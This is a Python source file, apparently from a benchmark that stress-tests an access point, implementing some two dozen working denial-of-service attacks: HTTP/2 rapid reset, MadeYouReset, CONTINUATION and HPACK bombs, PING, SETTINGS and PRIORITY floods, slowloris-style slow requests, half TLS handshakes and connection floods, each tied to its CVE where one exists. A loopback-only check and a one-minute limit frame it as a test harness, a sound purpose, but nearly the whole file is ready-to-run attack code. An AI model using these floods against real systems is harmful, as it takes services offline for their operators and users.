"""``python -m bench.punishment.attackers``: one attack against one access point, for a bounded time, from a core of its own.

A ``Task`` comes as JSON on stdin, a report as JSON on stdout. Many threads with a connection each: TLS, hashing and copying run
without the interpreter's lock, so that one process keeps a core busy; what is sent over and over is made before it begins. Only
addresses of loopback are attacked.
"""

from __future__ import annotations

import contextlib
import hashlib
import ipaddress
import itertools
import json
import os
import random
import resource
import select
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

import msgspec

from bench.punishment import frames as h2

THREADS = 32
"""So many that the core stays busy though each connection waits for the node's answers."""
ADDRESSES = 1000
"""Of an enrolled attacker. Fewer than he opens connections, so that the node knows them again; of a stranger, 60,000."""
LONGEST_S = 60.0
STUCK_S = 0.1
"""A connection that takes nothing for so long is left for a new one."""
AT_ONCE_S = 0.002
"""A connection that is not there after so long is left for a new one: who waited until its SYN is said again kept no core busy."""
HOST, PORT = b"wiki.test", 80
TARGET = b"wiki.test:80"


class Task(msgspec.Struct, frozen=True):
    """``attack`` names one of ``ATTACKS``; ``identities`` are (certificate, key) files; ``start`` is a monotonic time, and so is
    ``burn``, from which until then the core is kept busy with nothing.

    ``block``: the attack's own part of 127.0.0.0/8 (127.2.0.0/16 and up), so that what the node learned of an earlier attack does not
    count for or against it. ``source``: its only address, if it has one.
    """

    attack: str
    target: str
    identities: tuple[tuple[str, str], ...]
    core: int
    burn: float
    start: float
    seconds: float
    block: int = 0
    source: str = ""


class Attacker:
    """What all threads of an attack share."""

    def __init__(self, task: Task) -> None:
        """Raises ``ValueError`` for a target that is not on loopback, or a time that is too long."""
        host, _, port = task.target.rpartition(":")
        if not ipaddress.ip_address(host).is_loopback or task.seconds > LONGEST_S:
            raise ValueError("attacks go to loopback, and for a minute at most")
        self.target = (host, int(port))
        self.block, self.source = task.block, task.source
        self.until = task.start + task.seconds
        self.done: Counter[str] = Counter()
        self._sources = itertools.count()
        self._contexts = [_context(*files) for files in task.identities]
        self._stranger = _context()

    @property
    def on(self) -> bool:
        """Whether it goes on."""
        return time.monotonic() < self.until

    def dial(self, addresses: int = 60_000) -> socket.socket | None:
        """A TCP connection, from one of ``addresses`` in turn; ``None``: refused, or not there at once."""
        number = next(self._sources) % addresses
        raw = socket.socket()
        raw.settimeout(AT_ONCE_S)
        with contextlib.suppress(OSError):
            raw.bind((self.source or f"127.{2 + self.block}.{number // 250}.{1 + number % 250}", 0))
            raw.connect(self.target)
            raw.settimeout(5)
            self.done["connections"] += 1
            return raw
        raw.close()
        self.done["refused"] += 1
        return None

    def secure(self, alpn: str, *, who: int | None = 0) -> ssl.SSLSocket | None:
        """The same with TLS as identity number ``who`` (``None``: nobody)."""
        raw = self.dial() if who is None else self.dial(ADDRESSES)
        if raw is None:
            return None
        context = self._stranger if who is None else self._contexts[who % len(self._contexts)]
        protocol = context[alpn]
        try:
            tls = protocol.wrap_socket(raw)
        except OSError:
            raw.close()
            self.done["handshakes_failed"] += 1
            time.sleep(0)
            return None
        self.done["handshakes"] += 1
        return tls

    def greeted(self, *, window: int | None = None) -> ssl.SSLSocket | None:
        """An HTTP/2 connection after its greeting."""
        tls = self.secure("h2")
        if tls is not None:
            first = h2.settings() if window is None else h2.settings(initial_window_size=window)
            self.pour(tls, h2.PREFACE + first + h2.frame(h2.SETTINGS, h2.ACK, 0))
        return tls

    def pour(self, tls: ssl.SSLSocket, data: bytes, *, read: bool = True) -> bool:
        """Send all of ``data``, hearing what comes; false when the connection was cut or stuck, or the time is over."""
        tls.setblocking(False)
        rest, moved = memoryview(data), time.monotonic()
        while rest:
            if not self.on or time.monotonic() > moved + STUCK_S:
                return False
            readable, writable, _ = select.select([tls] if read else [], [tls], [], STUCK_S)
            try:
                if (readable or (read and tls.pending())) and not tls.recv(65536):
                    return False
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                return False
            try:
                if writable:
                    sent = tls.send(rest[:16384])
                    self.done["bytes"] += sent
                    rest, moved = rest[sent:], time.monotonic()
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                return False
        return True

    def hold(self, tls: ssl.SSLSocket) -> None:
        """Hear what comes until the connection is cut."""
        while self.on:
            readable, _, _ = select.select([tls], [], [], 0.1)
            try:
                if readable and not tls.recv(65536):
                    return
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                return


def _context(certificate: str = "", key: str = "") -> dict[str, ssl.SSLContext]:
    contexts = {}
    for alpn in ("h2", "http/1.1"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # an attacker does not care whom he attacks
        context.set_alpn_protocols([alpn])
        if certificate:
            context.load_cert_chain(certificate, key)
        contexts[alpn] = context
    return contexts


# Floods inside HTTP/2: what is poured into each connection after the greeting

Pour = Callable[[], Iterator[bytes]]


def _streams(one: Callable[[int], bytes], count: int = 20_000, at_once: int = 500) -> Iterator[bytes]:
    numbers = range(1, 2 * count, 2)
    for first in range(0, count, at_once):
        yield b"".join(one(number) for number in numbers[first : first + at_once])


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487."""
    head = h2.connect(TARGET)
    return _streams(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, n, head) + h2.frame(h2.RST_STREAM, 0, n, h2.CANCEL))


def made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: the server must reset, by our fault."""
    head = h2.get(HOST, b"/1k.bin")
    ends = h2.END_HEADERS | h2.END_STREAM
    return _streams(lambda n: h2.frame(h2.HEADERS, ends, n, head) + h2.window(n, 0))


def continuation() -> Iterator[bytes]:
    """A head that never ends (CVE-2024-27316)."""
    yield h2.frame(h2.HEADERS, 0, 1, h2.connect(TARGET))
    more = h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x", b"y" * 100)) * 500
    yield from itertools.repeat(more, 100)


def empty_continuation() -> Iterator[bytes]:
    """The same without a byte in it."""
    yield h2.frame(h2.HEADERS, 0, 1, h2.connect(TARGET))
    yield from itertools.repeat(h2.frame(h2.CONTINUATION, 0, 1) * 2000, 100)


def hpack_bomb() -> Iterator[bytes]:
    """4 KiB in the dynamic table, told a thousand times by one byte each."""
    filling = b"\x40" + h2.text(b"x") + h2.text(b"y" * 4000)
    head = h2.connect(TARGET) + filling + b"\xbe" * 1000
    return _streams(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, n, head), 4000, 50)


def http2_bomb() -> Iterator[bytes]:
    """Heads just below the bound from few bytes, on streams that stay: each as many decoded crumbs of a cookie as pass."""
    filling = b"\x40" + h2.text(b"cookie") + h2.text(b"a=" + b"b" * 120)
    head = h2.get(HOST, b"/big.bin") + filling + b"\xbe" * 90
    return _streams(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, n, head), 20_000, 100)


def pings() -> Iterator[bytes]:
    """PING (CVE-2019-9512)."""
    return itertools.repeat(h2.frame(h2.PING, 0, 0, b"12345678") * 1000, 10_000)


def settings() -> Iterator[bytes]:
    """SETTINGS (CVE-2019-9515)."""
    return itertools.repeat(h2.settings(initial_window_size=65535) * 1000, 10_000)


def priorities() -> Iterator[bytes]:
    """PRIORITY frames that rebuild the tree (CVE-2019-9513)."""
    trees = [h2.frame(h2.PRIORITY, 0, n, bytes([0, 0, 0, 0, n % 256])) for n in range(1, 2001, 2)]
    return itertools.repeat(b"".join(trees), 10_000)


def empty_data() -> Iterator[bytes]:
    """DATA without data (CVE-2019-9518) in an open tunnel."""
    yield h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.connect(TARGET))
    yield from itertools.repeat(h2.frame(h2.DATA, 0, 1) * 1000, 10_000)


def tiny_data() -> Iterator[bytes]:
    """DATA of one byte in an open tunnel."""
    yield h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.connect(TARGET))
    yield from itertools.repeat(h2.frame(h2.DATA, 0, 1, b"G") * 1000, 10_000)


def window_updates() -> Iterator[bytes]:
    """A window that grows by single bytes."""
    yield h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, h2.get(HOST, b"/big.bin"))
    yield from itertools.repeat(h2.window(1, 1) * 500 + h2.window(0, 1) * 500, 10_000)


def unknown_frames() -> Iterator[bytes]:
    """Frames of a kind that nobody knows, which must be ignored (RFC 9113 §5.5)."""
    return itertools.repeat(h2.frame(0xFE, 0, 0) * 1000, 10_000)


def tunnels() -> Iterator[bytes]:
    """Tunnels opened and closed in good order."""
    head = h2.connect(TARGET)
    ends = h2.END_STREAM
    return _streams(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, n, head) + h2.frame(h2.DATA, ends, n), 40_000, 100)


def requests() -> Iterator[bytes]:
    """Requests that are refused, as fast as they can be said."""
    head = h2.get(b"nobody.test", b"/")
    return _streams(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, n, head), 40_000, 200)


def oversized() -> Iterator[bytes]:
    """A frame longer than was agreed, behind a head that is too long by far."""
    long = h2.get(HOST, b"/" + b"a" * 15_000) + h2.field(b"x", b"y" * 1000)
    yield h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, long)
    yield from itertools.repeat(h2.frame(h2.DATA, 0, 3, b"\0" * 65_536), 100)


def _inside(pour: Pour, window: int | None = None, *, stay: bool = False) -> Callable[[Attacker, int], None]:
    # What is sent is made once: what counts is whether the access point can take it as fast as it comes. `stay`: keep the
    # connection when all is said.
    made: list[bytes] = []

    def work(attacker: Attacker, _number: int) -> None:
        while attacker.on:
            tls = attacker.greeted(window=window)
            if tls is None:
                continue
            with tls:
                if all(attacker.pour(tls, chunk) for chunk in made) and stay:
                    attacker.hold(tls)

    def prepare() -> None:
        made.extend(itertools.islice(pour(), 1000))

    work.prepare = prepare  # type: ignore[attr-defined]
    return work


# Floods of connections and slow ones


def full_handshakes(attacker: Attacker, _number: int) -> None:
    """Whole handshakes of an enrolled user from everywhere; each is left at once."""
    while attacker.on:
        if tls := attacker.secure("h2"):
            tls.close()


def strange_handshakes(attacker: Attacker, _number: int) -> None:
    """Handshakes of somebody without a certificate."""
    while attacker.on:
        tls = attacker.secure("h2", who=None)
        if tls is not None:
            tls.settimeout(1)
            with contextlib.suppress(OSError):
                tls.recv(1)  # TLS 1.3: the refusal comes when the client has finished
            tls.close()


def half_handshakes(attacker: Attacker, number: int) -> None:
    """A ClientHello from everywhere, and nothing more; the last 50 of each thread stay open."""
    rng, waiting = random.Random(number), []
    hello = _hello()
    while attacker.on:
        if raw := attacker.dial():
            with contextlib.suppress(OSError):
                raw.send(hello[:11] + rng.randbytes(32) + hello[43:])
            waiting.append(raw)
            if len(waiting) > 50:
                waiting.pop(0).close()


def _hello() -> bytes:
    out = ssl.MemoryBIO()
    tls = _context()["h2"].wrap_bio(ssl.MemoryBIO(), out)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return out.read()


def garbage(attacker: Attacker, number: int) -> None:
    """What is not TLS."""
    noise = random.Random(number).randbytes(16384)
    while attacker.on:
        if raw := attacker.dial():
            with contextlib.suppress(OSError):
                raw.sendall(noise)
            raw.close()


def one_identity(attacker: Attacker, _number: int) -> None:
    """One user's connections from everywhere, kept."""
    kept = []
    while attacker.on:
        if tls := attacker.secure("h2"):
            kept.append(tls)


def many_identities(attacker: Attacker, number: int) -> None:
    """The same as many users."""
    kept = []
    for who in itertools.count(number * 1000):
        if not attacker.on:
            return
        if tls := attacker.secure("h2", who=who):
            kept.append(tls)


def _slow(opening: bytes, drip: bytes, every_s: float) -> Callable[[Attacker, int], None]:
    def work(attacker: Attacker, _number: int) -> None:
        kept: list[ssl.SSLSocket] = []
        due = 0.0
        while attacker.on:
            if tls := attacker.secure("http/1.1"):
                tls.settimeout(0.2)
                with contextlib.suppress(OSError):
                    tls.send(opening)
                    kept.append(tls)
            if time.monotonic() > due:
                due = time.monotonic() + every_s
                for old in kept:
                    with contextlib.suppress(OSError):
                        old.send(drip)

    return work


def pipelined(attacker: Attacker, _number: int) -> None:
    """HTTP/1 requests that are refused, without waiting for answers."""
    burst = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 500
    while attacker.on:
        tls = attacker.secure("http/1.1")
        if tls is None:
            continue
        with tls:
            while attacker.pour(tls, burst):
                pass


def big_heads(attacker: Attacker, _number: int) -> None:
    """HTTP/1 heads, targets, fields and chunks that are too large, in turn."""
    start = b"GET http://wiki.test/ HTTP/1.1\r\nHost: wiki.test\r\n"
    post = b"POST http://wiki.test/ HTTP/1.1\r\nHost: wiki.test\r\nTransfer-Encoding: chunked\r\n\r\n"
    kinds = (
        start + b"x: " + b"y" * (1 << 20),
        start + b"x: y\r\n" * 5000,
        b"GET http://wiki.test/" + b"a" * (1 << 20),
        b"A" * (1 << 20),
        post + b"5;" + b"x" * (1 << 20),
        post + b"F" * (1 << 20),
    )
    for kind in itertools.cycle(kinds):
        if not attacker.on:
            return
        if tls := attacker.secure("http/1.1"):
            with tls:
                attacker.pour(tls, kind)


_HEAD = b"GET http://wiki.test/ HTTP/1.1\r\nHost: wiki.test\r\nx: "
_POST = b"POST http://wiki.test/1k.bin HTTP/1.1\r\nHost: wiki.test\r\nContent-Length: 100000\r\n\r\n"
_BIG = b"GET http://wiki.test/big.bin HTTP/1.1\r\nHost: wiki.test\r\n\r\n"

ATTACKS: dict[str, Callable[[Attacker, int], None]] = {
    "rapid reset": _inside(rapid_reset),
    "MadeYouReset": _inside(made_you_reset),
    "CONTINUATION": _inside(continuation),
    "empty CONTINUATION": _inside(empty_continuation),
    "HPACK bomb": _inside(hpack_bomb),
    "HTTP/2 bomb": _inside(http2_bomb, window=0, stay=True),
    "PING": _inside(pings),
    "SETTINGS": _inside(settings),
    "PRIORITY": _inside(priorities),
    "empty DATA": _inside(empty_data),
    "tiny DATA": _inside(tiny_data),
    "WINDOW_UPDATE": _inside(window_updates, window=0),
    "unknown frames": _inside(unknown_frames),
    "tunnels": _inside(tunnels),
    "refused requests": _inside(requests),
    "oversized frames": _inside(oversized),
    "oversized heads": big_heads,
    "pipelined requests": pipelined,
    "slow head": _slow(_HEAD, b"y", 2),
    "slow body": _slow(_POST, b"z", 2),
    "slow read": _slow(_BIG, b"", 60),
    "full handshakes": full_handshakes,
    "handshakes of strangers": strange_handshakes,
    "half handshakes": half_handshakes,
    "garbage": garbage,
    "connections of one user": one_identity,
    "connections of many users": many_identities,
}


def burn(until: float) -> None:
    """Keep the core as busy as an attack does, with nothing that concerns anybody: hashing and copying, as TLS does."""
    noise = bytes(1 << 16)
    while time.monotonic() < until:
        hashlib.sha256(bytearray(noise)).digest()


def main() -> None:
    """Burn, then attack."""
    task = msgspec.json.decode(sys.stdin.buffer.read(), type=Task)
    os.sched_setaffinity(0, {task.core})
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker, work = Attacker(task), ATTACKS[task.attack]
    getattr(work, "prepare", lambda: None)()
    time.sleep(max(0.0, task.burn - time.monotonic()))
    burned = time.process_time()
    burn(task.start)
    before = time.process_time()
    threads = [threading.Thread(target=work, args=(attacker, number), daemon=True) for number in range(THREADS)]
    for thread in threads:
        thread.start()
    while attacker.on:
        time.sleep(0.05)
    print(json.dumps({"burned_s": before - burned, "cpu_s": time.process_time() - before, **attacker.done}), flush=True)
    os._exit(0)  # thousands of connections need no goodbye


if __name__ == "__main__":
    main()
